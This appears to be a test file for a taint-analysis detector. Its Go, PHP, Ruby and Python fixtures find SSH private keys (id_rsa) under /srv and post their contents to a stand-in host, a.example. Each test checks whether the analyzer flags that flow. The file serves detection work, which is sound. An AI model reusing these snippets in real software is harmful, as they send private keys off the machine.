import type { TaintProbe } from '@clawback/model'
import { describe, expect, it } from 'vitest'

import { factsOf, flows, spec } from './testkit.js'

const go: TaintProbe = {
  ...spec,
  language: 'go',
  sources: [{ pattern: 'os.ReadFile(*/id_rsa*)', tag: 'key' }],
  sinks: [{ pattern: 'net/http.Post', tag: 'net' }],
}
const php: TaintProbe = {
  ...spec,
  language: 'php',
  sources: [{ pattern: 'file_get_contents(*/id_rsa*)', tag: 'key' }],
  sinks: [{ pattern: 'fwrite', tag: 'net' }],
}
const ruby: TaintProbe = {
  ...spec,
  language: 'ruby',
  sources: [{ pattern: 'File.read(*/id_rsa*)', tag: 'key' }],
  sinks: [{ pattern: 'Net::HTTP.post', tag: 'net' }],
}

const inGo = (body: string): string => `package a
import ("bytes"; "io/fs"; "net/http"; "os"; "path/filepath"; "slices"; "strings")
var wanted = []string{"id_rsa", "notes"}
var known = map[string]bool{"id_rsa": true}
func send(b []byte) { http.Post("https://a.example", "x", bytes.NewReader(b)) }
func main() {
${body}
}
`
const walk = (body: string): string =>
  inGo(`filepath.WalkDir("/srv", func(path string, d fs.DirEntry, err error) error {\n${body}\nreturn nil })`)
const read = 'b, _ := os.ReadFile(path); send(b)'

describe('a name that Go tests', () => {
  it.each([
    ['the same', walk(`if d.Name() == "id_rsa" {\n${read}\n}`)],
    ['in a list', walk(`if err == nil && slices.Contains(wanted, d.Name()) {\n${read}\n}`)],
    ['in a map', walk(`if known[filepath.Base(path)] {\n${read}\n}`)],
    ['by its ending', walk(`if strings.HasSuffix(path, "id_rsa") {\n${read}\n}`)],
    ['where the rest is passed over', walk(`if d.IsDir() || d.Name() != "id_rsa" {\nreturn nil\n}\n${read}`)],
    [
      'where what is not so is passed over',
      walk(`if !slices.Contains(wanted, d.Name()) {\nreturn nil\n}\n${read}`),
    ],
    ['switched on', walk(`switch d.Name() {\ncase "notes", "id_rsa":\n${read}\n}`)],
    [
      'of a folder',
      inGo(`es, _ := os.ReadDir("/srv")
for _, e := range es {
if e.Name() != "id_rsa" {
continue
}
b, _ := os.ReadFile(filepath.Join("/srv", e.Name()))
send(b)
}`),
    ],
  ])('is what it is tested for: %s', async (_, text) => {
    expect(flows(await factsOf({ 'a.go': text }, [go]))).toHaveLength(1)
  })

  it.each([
    ['passed over', walk(`if d.Name() == "id_rsa" {\nreturn nil\n}\n${read}`)],
    ['only told', walk(`if d.Name() != "id_rsa" {\nprintln(path)\n}\n${read}`)],
  ])('is not where the test does not hold: %s', async (_, text) => {
    expect(flows(await factsOf({ 'a.go': text }, [go]))).toEqual([])
  })
})

describe('a name that PHP tests', () => {
  const each = (body: string): string => `<?php
$wanted = ['id_rsa', 'notes'];
foreach (scandir('/srv') as $f) {
${body}
}
`
  const send = `fwrite(STDOUT, file_get_contents('/srv/' . $f));`
  it.each([
    ['the same', each(`if ($f === 'id_rsa') { ${send} }`)],
    ['in a list', each(`if (is_file($f) && in_array($f, $wanted, true)) { ${send} }`)],
    ['by its ending', each(`if (str_ends_with($f, 'id_rsa')) { ${send} }`)],
    ['where the rest is passed over', each(`if (!in_array(basename($f), $wanted)) { continue; } ${send}`)],
    ['where another is passed over', each(`if ($f !== 'id_rsa') continue; ${send}`)],
  ])('is what it is tested for: %s', async (_, text) => {
    expect(flows(await factsOf({ 'a.php': text }, [php]))).toHaveLength(1)
  })

  it('is not where the test does not hold', async () => {
    const text = each(`if ($f === 'id_rsa') { continue; } ${send}`)
    expect(flows(await factsOf({ 'a.php': text }, [php]))).toEqual([])
  })
})

describe('a name that Ruby tests', () => {
  const each = (body: string): string => `require 'net/http'
WANTED = %w[id_rsa notes]
Dir.foreach('/srv') do |f|
  ${body}
end
`
  const send = `Net::HTTP.post(URI('https://a.example'), File.read(File.join('/srv', f)))`
  it.each([
    ['the same', each(`if f == 'id_rsa'\n${send}\nend`)],
    ['in a list', each(`${send} if WANTED.include?(f)`)],
    ['by its ending', each(`if f.end_with?('id_rsa')\n${send}\nend`)],
    ['where the rest is passed over', each(`next unless WANTED.include?(File.basename(f))\n${send}`)],
    ['unless it is another', each(`unless f != 'id_rsa'\n${send}\nend`)],
  ])('is what it is tested for: %s', async (_, text) => {
    expect(flows(await factsOf({ 'a.rb': text }, [ruby]))).toHaveLength(1)
  })

  it('is not where the test does not hold', async () => {
    const text = each(`next if WANTED.include?(f)\n${send}`)
    expect(flows(await factsOf({ 'a.rb': text }, [ruby]))).toEqual([])
  })
})

it('a body that does nothing leaves nothing out', async () => {
  const python: TaintProbe = {
    ...spec,
    sources: [{ pattern: 'open(*/id_rsa*)', tag: 'key' }],
    sinks: [{ pattern: 'requests.post', tag: 'net' }],
  }
  const text = (last: string): string => `import os, requests
for f in os.listdir("/srv"):
    if f != "id_rsa":
        ${last}
    requests.post("https://a.example", data=open("/srv/" + f).read())
`
  expect(flows(await factsOf({ 'a.py': text('pass') }, [python]))).toEqual([])
  expect(flows(await factsOf({ 'a.py': text('continue') }, [python]))).toHaveLength(1)
  expect(flows(await factsOf({ 'a.py': text('break') }, [python]))).toHaveLength(1)
})
